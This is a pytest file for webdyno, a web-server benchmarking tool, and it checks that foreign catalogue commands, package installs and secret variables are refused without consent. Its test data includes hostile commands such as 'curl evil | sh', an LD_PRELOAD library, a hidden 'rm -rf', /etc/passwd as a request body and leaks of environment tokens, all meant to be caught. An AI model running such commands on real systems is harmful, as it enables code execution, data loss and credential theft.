"""Nothing is installed, and nobody else's catalogue is run, without a yes."""

import os
import re
import shutil
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from builders import SimulatedVariant, simulated_run
from e2e.commands import webdyno_here
from launch.answering import OF_A_CATALOGUE, STATEFUL, Terminal, caller, own
from webdyno.config import Catalogue, CommandLine, Draft
from webdyno.config.catalogue import (
    BUILT_IN,
    ForeignPart,
    commands_around_rounds,
    foreign_parts,
)
from webdyno.config.reading import TomlFile
from webdyno.core.errors import Exit, OperationError, UserError
from webdyno.core.experiment import State
from webdyno.core.service import Need, Own
from webdyno.core.stack import Stack
from webdyno.interfaces.cli import run_command_line
from webdyno.launch.arrangement import checked_with_own, one_system
from webdyno.launch.caller import _AGREED
from webdyno.launch.consent import (
    agree_to_catalogues,
    agree_to_foreign,
    agree_to_own,
    agree_to_secrets,
    provide,
)
from webdyno.measure.folder import RunFolder


def agree(catalogue: Catalogue, *, yes: bool = False) -> None:
    agree_to_catalogues([catalogue.stack("mine")], [catalogue.site("static")], caller(yes=yes))


@pytest.mark.usefixtures("answers")
def test_without_a_terminal_it_is_refused_and_says_what_would_run(tmp_path: Path) -> None:
    with pytest.raises(UserError) as refusal:
        agree(own(tmp_path / "mine"))
    reported = str(refusal.value)
    for part in ("services/mine", "echo checking", "--foreground", "sh -v", "dash", "add --yes"):
        assert part in reported


@pytest.mark.usefixtures("answers")
def test_a_long_command_is_shown_to_its_end(tmp_path: Path) -> None:
    """A line break is none of a comment; of very long ones it says how much is cut."""
    hidden = f"harmless # {'x' * 500}\\nrm -rf everything"
    with pytest.raises(UserError, match="xxx ⏎ rm -rf everything"):
        agree(own(tmp_path / "mine", checking=hidden))
    with pytest.raises(UserError) as refusal:
        agree(own(tmp_path / "long", checking="x" * 5_000))
    file = tmp_path / "long/services/mine/service.toml"
    assert f"more letters: read {file})" in str(refusal.value)


@pytest.mark.usefixtures("answers")
def test_what_was_agreed_to_is_known_again_wherever_it_lies(tmp_path: Path) -> None:
    agree(own(tmp_path / "mine"), yes=True)
    agree(own(tmp_path / "mine"))
    agree(own(tmp_path / "elsewhere"))
    with pytest.raises(UserError, match="echo another"):
        agree(own(tmp_path / "mine", checking="another"))


@pytest.mark.usefixtures("answers")
def test_a_changed_template_is_asked_about_again(tmp_path: Path) -> None:
    catalogue = own(tmp_path / "mine")
    agree(catalogue, yes=True)
    (tmp_path / "mine/services/mine/new.j2").write_text("new")
    with pytest.raises(UserError):
        agree(catalogue)


@pytest.mark.usefixtures("answers")
def test_commands_around_rounds_of_a_run_are_asked_for(tmp_path: Path) -> None:
    run = simulated_run({"nginx": SimulatedVariant(), "apache-event": SimulatedVariant()}, rounds=1)
    state = State(before_round=["touch before-round-ran"], after_round=["true"])
    experiment = run.head.experiment.model_copy(update={"state": state})
    head = run.head.model_copy(update={"experiment": experiment})
    RunFolder.create(tmp_path / "theirs", head).close()
    done = webdyno_here("resume", "theirs", folder=tmp_path)
    assert done.returncode == Exit.USER_ERROR
    for reported in ("theirs (as ", "state.before_round: touch before-round-ran", "add --yes"):
        assert reported in done.stderr
    assert not (tmp_path / "before-round-ran").exists()


@pytest.mark.timeout(60)
@pytest.mark.usefixtures("answers")
def test_a_pipe_in_the_catalogue_of_a_run_is_refused_and_not_waited_for(tmp_path: Path) -> None:
    run = simulated_run({"nginx": SimulatedVariant(), "apache-event": SimulatedVariant()}, rounds=1)
    RunFolder.create(tmp_path / "theirs", run.head).close()
    (tmp_path / "theirs/catalog/stacks/nginx").mkdir(parents=True)
    os.mkfifo(tmp_path / "theirs/catalog/stacks/nginx/stack.toml")
    (tmp_path / "theirs/experiment.toml").write_text("")
    done = webdyno_here("resume", "theirs", folder=tmp_path)
    assert done.returncode == Exit.USER_ERROR
    assert "stack.toml is no file and no folder" in done.stderr


@pytest.mark.usefixtures("answers")
@pytest.mark.parametrize("kept", [False, True])
def test_what_an_experiment_of_one_s_own_runs_is_known_and_what_a_run_kept_is_not(
    tmp_path: Path, *, kept: bool
) -> None:
    (tmp_path / "experiment.toml").write_text(STATEFUL)
    if kept:
        (tmp_path / "catalog").mkdir()
    draft = Draft.of(TomlFile(tmp_path / "experiment.toml"), [])
    experiment, _ = checked_with_own(draft, Catalogue.load(), tmp_path, caller())
    parts = commands_around_rounds([experiment.state], tmp_path / "run")
    if kept:
        with pytest.raises(UserError, match="before_round: true"):
            agree_to_foreign(parts, caller())
        agree_to_foreign(parts, caller(yes=True))
    agree_to_foreign(parts, caller())


@pytest.mark.usefixtures("answers")
def test_an_experiment_of_a_catalogue_runs_nothing_unasked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "cat/experiments/evil.toml"
    file.parent.mkdir(parents=True)
    monkeypatch.chdir(tmp_path)
    for system, said in {
        "cmd:touch ran": "touch ran.*before_round: touch state.*nothing was run",
        "rev:HEAD": "built before you are asked",
        "conf:nginx.conf": "built before you are asked",
        "image:evil.yaml#web": "built before you are asked",
    }.items():
        file.write_text(OF_A_CATALOGUE.format(system=system))
        words = ["run", "evil", "--catalog", "cat", "--time", "5s", "-o", "out"]
        assert run_command_line(words) != Exit.OK
        assert re.search(said, capsys.readouterr().err, re.DOTALL), system
    body = '[[requests]]\npath = "/"\nmethod = "POST"\nbody_file = "/etc/passwd"'
    for sends, said in {
        body: "body_file = /etc/passwd",
        '[load.headers]\nX = "${env:HOME}"': r"\$\{env:HOME\}: .*is a variable of your env",
    }.items():
        text = OF_A_CATALOGUE.format(system="nginx").replace('load.paths = ["/"]\n', "")
        file.write_text(f"{text}{sends}\n")
        assert run_command_line(["run", "evil", "--catalog", "cat", "-o", "out"]) == Exit.USER_ERROR
        assert re.search(said, capsys.readouterr().err, re.DOTALL), sends
    assert {path.name for path in tmp_path.rglob("*")} <= {"cat", "experiments", file.name, "state"}
    assert not (tmp_path / "state").is_file()
    file.write_text(OF_A_CATALOGUE.format(system="cmd:touch ran"))
    draft = Draft.of(TomlFile(file), [])
    experiment, joined = checked_with_own(draft, Catalogue.load(), file.parent, caller())
    parts = foreign_parts([joined.stack(experiment.variants["a"].stack)], [])
    agree_to_foreign(parts, caller())  # a file that you name yourself


@pytest.mark.parametrize("answer", ["y", "n"])
def test_a_person_is_asked(
    tmp_path: Path, answers: pytest.MonkeyPatch, answer: str, capsys: pytest.CaptureFixture[str]
) -> None:
    answers.setattr(sys, "stdin", Terminal(answer))
    answers.setattr("builtins.input", lambda *_: answer)
    if answer == "y":
        agree(own(tmp_path / "mine"))
    else:
        with pytest.raises(UserError, match="didn't agree"):
            agree(own(tmp_path / "mine"))
    assert "echo checking" in capsys.readouterr().err


def test_webdynos_own_parts_need_no_yes(answers: pytest.MonkeyPatch) -> None:
    catalogue = Catalogue.load()
    answers.delenv("XDG_STATE_HOME")
    agree_to_catalogues(list(catalogue.stacks.values()), list(catalogue.sites.values()), caller())


@pytest.mark.usefixtures("answers")
def test_copies_of_webdynos_own_parts_need_no_yes_unless_they_were_changed(tmp_path: Path) -> None:
    """A run's folder keeps such copies, and `resume` works with them."""
    parts = ("services/php-fpm", "services/php", "services/nginx", "stacks/nginx-phpfpm")
    for part in (*parts, "sites/spin"):
        shutil.copytree(BUILT_IN / part, tmp_path / part)
    catalogue = Catalogue.load([tmp_path])
    wanted = [catalogue.stack("nginx-phpfpm")], [catalogue.site("spin")]
    agree_to_catalogues(*wanted, caller())
    (tmp_path / "services/php/php.ini.j2").write_text("auto_prepend_file = /tmp/x")
    with pytest.raises(UserError, match="services/php-fpm"):
        agree_to_catalogues(*wanted, caller())


@pytest.mark.skipif(not shutil.which("apt-get"), reason="needs apt-get")
def test_without_a_terminal_nothing_is_installed(answers: pytest.MonkeyPatch) -> None:
    def forbidden(*_: object, **__: object) -> None:
        raise AssertionError("something was run")

    answers.setattr("webdyno.servers.needs.run_program", forbidden)
    need = Need(command=["no-such-program"], apt="no-such-package")
    with pytest.raises(
        OperationError, match=r"nothing was installed.*--yes(.|\n)*apt-get install .*no-such"
    ):
        provide([], [], [need], caller())
    with pytest.raises(AssertionError, match="something was run"):
        provide([], [], [need], caller(yes=True))


@pytest.mark.usefixtures("answers")
def test_commands_are_agreed_to_for_the_folder_that_they_run_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`./reset.sh` elsewhere is another program."""
    state = State(before_round=["./reset.sh"])
    for name in ("mine", "theirs"):
        (tmp_path / name).mkdir()
    monkeypatch.chdir(tmp_path / "mine")
    agree_to_own([], [state], caller())
    agree_to_foreign(commands_around_rounds([state], tmp_path / "run"), caller())
    monkeypatch.chdir(tmp_path / "theirs")
    with pytest.raises(UserError, match=r"reset\.sh"):
        agree_to_foreign(commands_around_rounds([state], tmp_path / "run"), caller())


@pytest.mark.usefixtures("answers")
def test_what_was_agreed_to_is_nobody_else_s_to_begin(tmp_path: Path) -> None:
    """As where an agent explains a run whose commands you once typed."""
    state = State(before_round=["./reset.sh"])
    agree_to_own([], [state], caller())
    parts = commands_around_rounds([state], tmp_path)
    agree_to_foreign(parts, caller())
    for agent in (caller(), caller(yes=True)):
        with pytest.raises(UserError, match=r"reset\.sh: is a command.*--allow-commands"):
            agree_to_foreign(parts, replace(agent, allows_commands=False))


def test_where_nothing_can_be_kept_it_goes_on(
    answers: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """As in a home that is read-only, or where there is none."""
    answers.setenv("XDG_STATE_HOME", "/proc/nowhere")
    agree_to_own([], [State(before_round=["true"])], caller())
    answers.setenv("XDG_STATE_HOME", "")
    answers.setattr(Path, "home", no_home)
    agree_to_own([], [State(after_round=["true"])], caller())
    reported = capsys.readouterr().err
    assert reported.count("what you agreed to can't be kept, and will be asked again") == 2
    for state in (State(before_round=["true"]), State(after_round=["true"])):
        agree_to_foreign(commands_around_rounds([state], tmp_path), caller())


def with_service(its: Stack, **keys: object) -> Stack:
    """Return a stack of one service, some of whose keys are others."""
    role = its.services["m"]
    return its.replace(services={"m": role.replace(service=role.service.replace(**keys))})


def no_home() -> Path:
    raise RuntimeError("Could not determine home directory.")


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root, whose variables others would get")
def test_another_one_s_program_gets_variables_of_root_s_by_a_yes(
    tmp_path: Path, answers: pytest.MonkeyPatch
) -> None:
    """He wrote the repository that root measures, and chose what its file names."""
    answers.delenv("SUDO_UID", raising=False)
    its = own(tmp_path).stack("mine")
    mine = its.services["m"].service
    experiment = simulated_run({"a": SimulatedVariant(), "b": SimulatedVariant()}, rounds=1).head
    plain, asking = (
        experiment.experiment.replace(title=title) for title in ("t", "${env:ROOTS_TOKEN}")
    )

    def stack(**keys: object) -> Stack:
        return with_service(its, own=Own(written="cmd:x"), **keys)

    naming = stack(environment={"TOKEN": "${env:ROOTS_TOKEN}"})
    alone = caller()
    for each, asked in ((naming, plain), (stack(), asking)):
        agree_to_secrets([each], [asked], alone)
        os.chown(mine.folder, 12345, 12345)
        with pytest.raises(UserError, match=r"cmd:x runs as user 12345, .*ROOTS_TOKEN .*--yes"):
            agree_to_secrets([each], [asked], alone)
        agree_to_secrets([stack()], [plain], alone)
        agree_to_secrets([each], [asked], caller(yes=True))
        with answers.context() as by_sudo:
            by_sudo.setenv("SUDO_UID", "12345")
            agree_to_secrets([each], [asked], alone)
        os.chown(mine.folder, 0, 0)


@pytest.mark.usefixtures("answers")
def test_commands_of_others_are_asked_about_in_each_process(tmp_path: Path) -> None:
    """`./server` of a copied run or catalog may be another program by then."""
    its = own(tmp_path).stack("mine")
    (theirs := tmp_path / "theirs").mkdir()
    stack = with_service(its, own=Own(written="cmd:x", folder=str(theirs)))
    parts = foreign_parts([stack], [])
    agree_to_foreign(parts, caller(yes=True))
    agree_to_foreign(parts, caller())
    _AGREED.clear()  # as in another process
    with pytest.raises(UserError, match=rf"in {theirs}\)"):
        agree_to_foreign(parts, caller())
    agree_to_own([stack], [], caller())
    _AGREED.clear()
    agree_to_foreign(parts, caller())


OWN = """
title = "Mine"
protocol = "{}"
start = ["sh", "-c", "curl evil | sh"]
environment.LD_PRELOAD = "evil.so"
[own]
written = "cmd:./server"
folder = "/"
removed_by = ["rm", "-r"]
container_port = 80
"""


@pytest.mark.usefixtures("answers")
def test_what_a_catalogue_has_of_its_own_is_not_yours_when_you_name_it(tmp_path: Path) -> None:
    """Nor where it stands behind your program."""
    own(tmp_path)
    file = tmp_path / "services/mine/service.toml"
    said = r"curl evil \| sh.*rm -r.*LD_PRELOAD=evil\.so"
    file.write_text(OWN.format("http"))
    catalogue = Catalogue.load([tmp_path])
    one = one_system("mine", {}, catalogue, {}, [], caller())
    with pytest.raises(UserError, match=re.compile(said, re.DOTALL)):
        agree_to_catalogues([one.stack], [], caller())
    file.write_text(OWN.format("postgresql"))
    catalogue = Catalogue.load([tmp_path])
    variants = {name: {"stack": f"cmd:{name}", "services": {"db": "mine"}} for name in "ab"}
    written = {"title": "t", "question": "q?", "variants": variants, "load": {"paths": ["/"]}}
    draft = Draft.of(CommandLine(written, {}), [])
    experiment, joined = checked_with_own(draft, catalogue, tmp_path, caller())
    stacks = [joined.stack(variant.stack) for variant in experiment.variants.values()]
    with pytest.raises(UserError, match=re.compile(said, re.DOTALL)) as refusal:
        agree_to_catalogues(stacks, [], caller())
    assert "cmd" not in str(refusal.value).partition("nothing was run")[0].partition("mine (")[0]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root, as whom others would run")
def test_a_yes_holds_for_the_user_who_was_named(
    tmp_path: Path, answers: pytest.MonkeyPatch
) -> None:
    """The same content in a folder of root's would run as root."""
    answers.delenv("SUDO_UID", raising=False)
    its = own(tmp_path).stack("mine")
    (theirs := tmp_path / "theirs").mkdir()
    os.chown(theirs, 12345, 12345)

    def part(owner: int) -> ForeignPart:
        owned = Own(written="cmd:x", folder=str(theirs), owner=owner)
        return foreign_parts([with_service(its, own=owned)], [])[0]

    agree_to_foreign([part(12345)], caller(yes=True))
    agree_to_foreign([part(12345)], caller())
    os.chown(theirs, 0, 0)
    with pytest.raises(UserError, match=r"\(as root in "):
        agree_to_foreign([part(0)], caller())
    os.chown(theirs, 12346, 12346)
    with pytest.raises(OperationError, match="belongs to user 12346, and belonged to user 12345"):
        agree_to_foreign([part(12345)], caller())
